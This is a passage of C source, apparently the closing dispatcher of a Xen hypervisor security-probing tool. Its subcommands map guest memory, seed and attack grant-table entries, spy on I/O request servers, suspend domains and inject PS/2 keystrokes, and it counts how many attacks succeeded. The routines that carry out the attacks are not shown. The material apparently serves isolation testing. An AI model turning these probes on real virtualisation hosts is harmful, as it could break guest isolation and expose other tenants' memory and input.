    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (!strcmp(argv[2], "suite") && argc == 6) {
        frame = strtoull(argv[4], &end, 0);
        if (*end)
            return usage();
        marker = argv[5];
        rc = suite((uint32_t)domid, argv[3], frame);
    } else if (!strcmp(argv[2], "hold-map") && argc == 4) {
        int err = 0;
        void *p;

        frame = strtoull(argv[3], &end, 0);
        if (*end)
            return usage();
        p = xenforeignmemory_map(fm, (uint32_t)domid, PROT_READ, 1, &frame, &err);
        if (!p || err) {
            printf("refused: %s\n", strerror(p ? -err : errno));
            return 1;
        }
        wait_for_signal(0);
        xenforeignmemory_unmap(fm, p, 1);
        rc = 0;
    } else if (!strcmp(argv[2], "seed-grant") && argc == 4) {
        frame = strtoull(argv[3], &end, 0);
        if (*end)
            return usage();
        rc = seed((uint32_t)domid, frame, 1) < 0 ? 1 : 0;
        printf(rc ? "refused: %s\n" : "seeded\n", strerror(errno));
    } else if (!strcmp(argv[2], "unseed-grant") && argc == 3) {
        rc = seed((uint32_t)domid, 0, 0) < 0 ? 1 : 0;
        printf(rc ? "refused: %s\n" : "cleared\n", strerror(errno));
    } else if (!strcmp(argv[2], "hold-gnttab") && argc == 5) {
        xenforeignmemory_resource_handle *res;
        grant_entry_v1_t *e;

        frame = strtoull(argv[3], &end, 0);
        if (*end)
            return usage();
        marker = argv[4];
        e = grant_table((uint32_t)domid, &res);
        if (!e) {
            printf("refused: %s\n", strerror(errno));
            return 1;
        }
        srandom((unsigned)time(NULL) ^ (unsigned)getpid());
        if (wait_for_signal(1) == SIGUSR1) {
            attack_held((uint32_t)domid, e, frame);
            printf("attacks: %d worked, %d got nothing\n", worked, failed);
        }
        xenforeignmemory_unmap_resource(fm, res);
        rc = failed == 0 ? 0 : worked == 0 ? 1 : 3;
    } else if (!strcmp(argv[2], "watch") && argc == 5) {
        rc = watch((uint32_t)domid, strtol(argv[3], NULL, 10), argv[4]);
    } else if (!strcmp(argv[2], "suspend") && argc == 3) {
        rc = xc_domain_shutdown(xch, (uint32_t)domid, SHUTDOWN_suspend) ? 1 : 0;
        printf(rc ? "refused: %s\n" : "suspended\n", strerror(errno));
    } else if (!strcmp(argv[2], "hold-target") && argc == 3) {
        uint32_t helper;

        if (make_helper((uint32_t)domid, &helper) < 0) {
            printf("refused: %s\n", strerror(errno));
            return 1;
        }
        printf("helper %u\n", helper);
        wait_for_signal(0);
        xc_domain_destroy(xch, helper);
        rc = 0;
    } else if (!strcmp(argv[2], "ioreq-spy") && argc == 5) {
        unsigned long port = strtoul(argv[3], &end, 0);

        if (*end || port > 0xfff8)
            return usage();
        marker = argv[4];
        rc = ioreq_spy((uint32_t)domid, (unsigned int)port);
    } else if (!strcmp(argv[2], "ioreq-legacy") && argc == 3) {
        ioservid_t id;
        xen_pfn_t gfn = 0, bufgfn = 0;
        evtchn_port_t bufport = 0;

        if (xendevicemodel_create_ioreq_server(dm, (uint32_t)domid, HVM_IOREQSRV_BUFIOREQ_OFF,
                                               &id)) {
            printf("refused: create_ioreq_server: %s\n", strerror(errno));
            return 1;
        }
        if (xendevicemodel_get_ioreq_server_info(dm, (uint32_t)domid, id, &gfn, &bufgfn,
                                                 &bufport)) {
            printf("refused: get_ioreq_server_info (legacy gfns): %s\n", strerror(errno));
            (void)xendevicemodel_destroy_ioreq_server(dm, (uint32_t)domid, id);
            return 1;
        }
        printf("ioreq server %u: request page at guest frame %#llx\n", (unsigned)id,
               (unsigned long long)gfn);
        wait_for_signal(0);
        (void)xendevicemodel_destroy_ioreq_server(dm, (uint32_t)domid, id);
        rc = 0;
    } else if (!strcmp(argv[2], "dm-events") && argc == 3) {
        rc = dm_events((uint32_t)domid);
    } else if (!strcmp(argv[2], "ps2-key") && (argc == 3 || argc == 4)) {
        rc = ps2_key((uint32_t)domid, argc == 4 ? argv[3] : NULL);
    } else
        return usage();
    xendevicemodel_close(dm);
    xengnttab_close(gt);
    xenforeignmemory_close(fm);
    xc_interface_close(xch);
    return rc;
}
